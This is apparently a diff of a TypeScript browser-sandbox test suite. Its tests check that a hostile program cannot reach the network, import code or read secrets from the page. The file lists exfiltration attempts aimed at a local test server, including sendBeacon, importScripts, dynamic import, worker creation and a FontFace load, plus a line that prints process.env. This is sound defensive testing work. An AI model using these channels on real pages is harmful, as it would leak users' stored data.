@@ -1,19 +1,15 @@
 /** A hostile program can do nothing in the page's sandbox except waste its own time. */
 import { createServer, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
-import { type Browser, type BrowserContext, chromium, type Page } from "playwright-core";
+import type { BrowserContext, Page } from "playwright-core";
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
-import { chromiumOptions } from "../../testing/chromium.ts";
-import type { RunEvent, RunnableProgram } from "../src/run/protocol.ts";
-import { runFailures } from "../src/run/protocol.ts";
-import { javascript, type RunInPageOptions, runIn, serveRunPage } from "./run-page.ts";
-import type { StaticHost } from "./static-host.ts";
+import { type RunEvent, type RunnableProgram, runFailures } from "../src/run/protocol.ts";
+import { failureOf, javascript, openRunPage, printed, type RunInPageOptions, type RunPage, runIn } from "./run-page.ts";
 
-let host: StaticHost;
+let runPage: RunPage;
 /** A server that attacks try to reach. */
 let listener: Server;
 let heard: string[] = [];
-let browser: Browser;
 let context: BrowserContext;
 let page: Page;
 
@@ -22,18 +18,17 @@ beforeAll(async () => {
         heard.push(`${request.method} ${request.url}`);
         response.setHeader("access-control-allow-origin", "*").setHeader("content-type", "text/javascript").end("0");
     }).listen(0, "127.0.0.1");
-    [host, browser] = await Promise.all([serveRunPage(), chromium.launch(chromiumOptions())]);
+    runPage = await openRunPage();
 });
 afterAll(async () => {
-    await browser.close();
-    await host.stop();
+    await runPage.close();
     listener.close();
 });
 beforeEach(async () => {
     heard = [];
-    context = await browser.newContext();
+    context = await runPage.browser.newContext();
     page = await context.newPage();
-    await page.goto(host.origin);
+    await page.goto(runPage.host.origin);
     // Something to steal.
     await page.evaluate(async () => {
         localStorage.setItem("secret", "of the page");
@@ -50,11 +45,7 @@ const away = (): string => `http://127.0.0.1:${(listener.address() as AddressInf
 const run = (code: string, options: RunInPageOptions = {}): Promise<RunEvent[]> =>
     runIn(page, javascript(code), options);
 
-const printed = (events: readonly RunEvent[]): string =>
-    events.flatMap((event) => (event.kind === "output" ? [event.text] : [])).join("");
-
-const failure = (events: readonly RunEvent[]): string | undefined =>
-    events.flatMap((event) => (event.kind === "failed" ? [event.name] : [])).at(0);
+const failure = (events: readonly RunEvent[]): string | undefined => failureOf(events)?.name;
 
 /** A program that tries each attack and prints the outcome. */
 const tried = (attempts: Readonly<Record<string, string>>): string => `
@@ -108,7 +99,7 @@ describe("a hostile program", () => {
             importScripts: `importScripts("${url}"); return "run"`,
             "import of an address": `return Object.keys(await import("${url}"))`,
             "import of data": `return (await import("data:text/javascript,export default 1")).default`,
-            "import of the site": `return Object.keys(await import("${host.origin}/index.html"))`,
+            "import of the site": `return Object.keys(await import("${runPage.host.origin}/index.html"))`,
             beacon: `return navigator.sendBeacon("${url}")`,
             "a letter": `return (await new FontFace("x", "url(${url})").load()).status`,
             "a worker of its own": `const worker = new Worker("${url}"); await new Promise((good, bad) => Object.assign(worker, { onmessage: good, onerror: bad })); return "started"`,
@@ -304,8 +295,7 @@ console.log((await response.json()).answer, JSON.stringify(process.env));
         // The page cannot tell why there is no response.
         await context.route("https://router.huggingface.co/closed", (route) => route.abort("failed"));
         const events = await withToken(`await fetch("https://router.huggingface.co/closed");`);
-        const [failed] = events.filter((event) => event.kind === "failed");
-        expect(failed).toMatchObject({ name: runFailures.notReached, message: "router.huggingface.co" });
+        expect(failureOf(events)).toMatchObject({ name: runFailures.notReached, message: "router.huggingface.co" });
     });
 
     test("is forgotten with the run: nothing that is kept holds it", async () => {
